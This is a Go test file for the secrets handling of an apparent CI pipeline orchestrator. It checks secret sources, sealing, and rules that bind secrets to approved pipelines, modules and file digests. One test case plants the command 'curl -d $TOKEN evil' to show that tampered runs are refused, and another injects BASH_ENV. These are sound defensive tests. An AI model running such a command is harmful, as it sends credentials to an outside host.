package secrets

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/modpipe/modpipe/internal/signing"
	"github.com/modpipe/modpipe/jobs"
	"github.com/modpipe/modpipe/pipeline"
)

func write(t *testing.T, path, text string) string {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func environment(vars map[string]string) func(string) (string, bool) {
	return func(name string) (string, bool) { v, ok := vars[name]; return v, ok }
}

func TestASourceReadsVariablesFilesAndADirectory(t *testing.T) {
	dir := t.TempDir()
	file := write(t, filepath.Join(t.TempDir(), "cert"), "one\ntwo\n")
	write(t, filepath.Join(dir, "db"), "password-1\r\n")
	write(t, filepath.Join(dir, ".hidden"), "not a secret")
	if err := os.Mkdir(filepath.Join(dir, "directory"), 0o700); err != nil {
		t.Fatal(err)
	}
	s, err := New(Config{Secrets: []string{"TOKEN", "cert=@" + file}, Dir: dir, Lookup: environment(map[string]string{"TOKEN": " in the environment\n", "OTHER": "not asked for"})})
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{"TOKEN": " in the environment\n", "cert": "one\ntwo\n", "db": "password-1"} {
		if got, err := s.Value(name); got != want || err != nil {
			t.Errorf("%s is %q, %v; want %q", name, got, err, want)
		}
	}
	for _, name := range []string{"OTHER", "../cert", ".hidden", "absent"} {
		if _, err := s.Value(name); !errors.Is(err, ErrUnknown) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if got := s.Names(); !slices.Equal(got, []string{"TOKEN", "cert", "db"}) {
		t.Errorf("%v", got)
	}
	write(t, filepath.Join(dir, "db"), "password-2")
	if got, _ := s.Value("db"); got != "password-2" {
		t.Errorf("after its rotation the secret is %q", got)
	}
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Value("cert"); err == nil || errors.Is(err, ErrUnknown) {
		t.Errorf("a file that was removed: %v", err)
	}
}

func TestASourceReportsAllFaults(t *testing.T) {
	rules := write(t, filepath.Join(t.TempDir(), "rules"), "TOKEN: {}\n")
	_, err := New(Config{Secrets: []string{"ABSENT", "EMPTY", "TOKEN=hunter2", "a/b", "x=@/nowhere"}, Dir: "/nowhere", Rules: rules, Lookup: environment(map[string]string{"EMPTY": ""})})
	for _, want := range []string{"secret: ABSENT: the environment has no", "secret: EMPTY: the environment has no", "secret: TOKEN: a value on the command line", `secret: "a/b" is not`, "secret: stat /nowhere", "secrets-dir: stat /nowhere", "secret-rules: " + rules + ":1:1: TOKEN"} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q is not in %v", want, err)
		}
	}
	if err != nil && strings.Contains(err.Error(), "hunter2") {
		t.Errorf("a value is in %v", err)
	}
}

func TestOnlyTheBoxOpensWhatWasSealed(t *testing.T) {
	var boxes [2]*signing.Box
	for i := range boxes {
		var err error
		if boxes[i], err = signing.NewBox(); err != nil {
			t.Fatal(err)
		}
	}
	sealed, err := Seal(boxes[0].Public(), map[string]string{"TOKEN": "a\nb"})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(sealed), "TOKEN") {
		t.Error("it is not encrypted")
	}
	if values, err := Open(boxes[0], sealed); err != nil || values["TOKEN"] != "a\nb" {
		t.Errorf("%v, %v", values, err)
	}
	if _, err := Open(boxes[1], sealed); err == nil {
		t.Error("another box opens it")
	}
	if _, err := Seal("no key", nil); err == nil {
		t.Error("it was sealed for no key")
	}
}

const file = `name: release
params: {stage: {default: dev}}
modules:
  build: {run: make}
  publish:
    needs: [build]
    matrix: {os: [linux, darwin]}
    run: ./publish.sh
    secrets: [TOKEN, {PIN: {name: pin, allow-short: true}}, {DB: {name: db, from: worker}}]
`

// specOf is the specification of a run of a file, as an orchestrator reads it.
func specOf(t *testing.T, params map[string]string) *jobs.Spec {
	t.Helper()
	f, err := pipeline.Parse("p.yaml", []byte(file))
	if err != nil {
		t.Fatal(err)
	}
	p, err := f.Bind(params, nil)
	if err != nil {
		t.Fatal(err)
	}
	data, err := jobs.Marshal(&jobs.Record{Spec: &jobs.Spec{Run: "r", Pipeline: p, Origin: &jobs.Origin{File: "p.yaml", Text: []byte(file), Params: params}}})
	if err != nil {
		t.Fatal(err)
	}
	rec, err := jobs.Unmarshal[jobs.Record](data)
	if err != nil {
		t.Fatal(err)
	}
	return rec.Spec
}

func sourceWith(t *testing.T, rules string, values map[string]string) *Source {
	t.Helper()
	cfg := Config{Lookup: environment(values)}
	for name := range values {
		cfg.Secrets = append(cfg.Secrets, name)
	}
	if rules != "" {
		cfg.Rules = write(t, filepath.Join(t.TempDir(), "rules.yaml"), rules)
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

var both = map[string]string{"TOKEN": "long enough", "pin": "1234"}

func TestARunHasItsSecrets(t *testing.T) {
	spec := specOf(t, nil)
	r := sourceWith(t, "", both).OfRun(spec)
	if err := r.Check(); err != nil {
		t.Fatal(err)
	}
	values, err := r.Values(spec.Pipeline.Modules[1])
	if err != nil || len(values) != 2 || values["TOKEN"] != "long enough" || values["pin"] != "1234" {
		t.Errorf("%v, %v", values, err)
	}
}

func TestWhatKeepsARunFromItsSecrets(t *testing.T) {
	sum := sha256.Sum256([]byte(file))
	digest := hex.EncodeToString(sum[:])
	for name, c := range map[string]struct {
		values map[string]string
		rules  string
		change func(*jobs.Spec)
		want   string // "" = nothing
	}{
		"no value":            {values: map[string]string{"pin": "1234"}, want: "publish (os=linux): secret TOKEN: this orchestrator does not have it: give it by --secret or --secrets-dir"},
		"of all modules":      {values: map[string]string{"pin": "1234"}, want: "publish (os=darwin): secret TOKEN"},
		"too short":           {values: map[string]string{"TOKEN": "xyzzy", "pin": "1234"}, want: "secret TOKEN has 5 characters"},
		"NUL":                 {values: map[string]string{"TOKEN": "long\x00enough", "pin": "1234"}, want: "secret TOKEN has a NUL byte"},
		"module not selected": {values: map[string]string{}, change: func(s *jobs.Spec) { s.Pipeline.Modules[1].Unselected, s.Pipeline.Modules[2].Unselected = true, true }},
		"module kept": {values: map[string]string{}, change: func(s *jobs.Spec) {
			s.Kept = []jobs.Kept{{Module: "publish (os=linux)"}, {Module: "publish (os=darwin)"}}
		}},
		"pipeline":                {values: both, rules: "TOKEN: {pipelines: [other, rel]}", want: `secret TOKEN: the rules (`},
		"pipeline pattern":        {values: both, rules: `TOKEN: {pipelines: "rel*"}`},
		"module":                  {values: both, rules: "TOKEN: {modules: [build]}", want: "do not give it to this module of pipeline \"release\""},
		"a family":                {values: both, rules: "TOKEN: {modules: [publish]}"},
		"a member":                {values: both, rules: `TOKEN: {modules: ["publish (os=linux)"]}`, want: "publish (os=darwin): secret TOKEN"},
		"one of two rules":        {values: both, rules: "TOKEN: [{pipelines: [x]}, {pipelines: [release], modules: [publish]}]"},
		"not both in one":         {values: both, rules: "TOKEN: [{pipelines: [x], modules: [publish]}, {pipelines: [release], modules: [x]}]", want: "secret TOKEN"},
		"others":                  {values: both, rules: `"*": {pipelines: [x]}`, want: "secret pin: the rules"},
		"others, not this one":    {values: both, rules: `{"*": {pipelines: [x]}, TOKEN: {pipelines: [release]}}`, want: "secret pin: the rules"},
		"a secret of the worker":  {values: both, rules: `{db: {pipelines: [x]}}`, want: "secret db: the rules"},
		"approved":                {values: both, rules: `{TOKEN: {digests: ["sha256:` + strings.ToUpper(digest) + `"]}}`},
		"another definition":      {values: both, rules: `{TOKEN: {digests: ["` + strings.Repeat("0", 64) + `"]}}`, want: "the pipeline file has the SHA-256 " + digest},
		"not what the file makes": {values: both, rules: `{TOKEN: {digests: ["` + digest + `"]}}`, change: func(s *jobs.Spec) { s.Pipeline.Modules[2].Command.Run = "curl -d $TOKEN evil" }, want: "the run is not what its pipeline file makes"},
		"another selection":       {values: both, rules: `{TOKEN: {digests: ["` + digest + `"]}}`, change: func(s *jobs.Spec) { s.Pipeline.Modules[0].Unselected = true }},
		"variables":               {values: both, rules: `{TOKEN: {digests: ["` + digest + `"]}}`, change: func(s *jobs.Spec) { s.Env = []pipeline.KeyValue{{Key: "BASH_ENV", Value: "x"}} }, want: "--env and --env-file set variables"},
		"no file":                 {values: both, rules: `{TOKEN: {digests: ["` + digest + `"]}}`, change: func(s *jobs.Spec) { s.Origin = nil }, want: "was not made of a pipeline file"},
	} {
		t.Run(name, func(t *testing.T) {
			spec := specOf(t, nil)
			if c.change != nil {
				c.change(spec)
			}
			err := sourceWith(t, c.rules, c.values).OfRun(spec).Check()
			switch {
			case c.want == "" && err != nil:
				t.Errorf("%v", err)
			case c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)):
				t.Errorf("%q is not in %v", c.want, err)
			}
			for _, v := range c.values {
				if err != nil && strings.Contains(err.Error(), v) {
					t.Errorf("a value is in %v", err)
				}
			}
		})
	}
}

func TestAnApprovedFileTakesItsParameters(t *testing.T) {
	sum := sha256.Sum256([]byte(file))
	spec := specOf(t, map[string]string{"stage": "prod"})
	s := sourceWith(t, "TOKEN: {digests: "+hex.EncodeToString(sum[:])+"}", both)
	if err := s.OfRun(spec).Check(); err != nil {
		t.Error(err)
	}
	spec.Origin.Params = nil
	if err := s.OfRun(spec).Check(); err == nil {
		t.Error("the run has other parameters than its origin names")
	}
}

func TestRulesThatMeanNothingAreRefused(t *testing.T) {
	for text, want := range map[string]string{
		"":                                 "want the names of secrets",
		"- TOKEN":                          "want the names of secrets",
		"a: [":                             "yaml",
		"a: {pipeline: [x]}":               `unknown key "pipeline"`,
		"a: []":                            "it has no rule",
		"a: x":                             "a rule has pipelines",
		"a: {modules: []}":                 "modules has an empty list or word",
		`a: {pipelines: ""}`:               "pipelines has an empty list or word",
		"a: {digests: [abc]}":              `"abc" is not the SHA-256`,
		"a/b: {modules: [x]}":              `"a/b" is not the name of a secret`,
		"a: {modules: {x: y}}":             "a",
		"a: {modules: x}\na: {modules: y}": "twice",
	} {
		_, err := readRules(write(t, filepath.Join(t.TempDir(), "rules.yaml"), text))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", text, err, want)
		}
	}
}

// A process may have been given new rules, or broken ones, since it began.
func TestRulesAreReadWhenASecretIsAskedFor(t *testing.T) {
	spec := specOf(t, nil)
	s := sourceWith(t, "TOKEN: {pipelines: [release]}", both)
	r := s.OfRun(spec)
	if err := r.Check(); err != nil {
		t.Fatal(err)
	}
	write(t, s.rules, "TOKEN: {pipelines: [other]}")
	if _, err := r.Values(spec.Pipeline.Modules[1]); err == nil {
		t.Error("the new rules do not count")
	}
	write(t, s.rules, "TOKEN: [")
	if _, err := r.Values(spec.Pipeline.Modules[1]); err == nil || !strings.Contains(err.Error(), "the rules cannot be read") {
		t.Errorf("%v", err)
	}
}
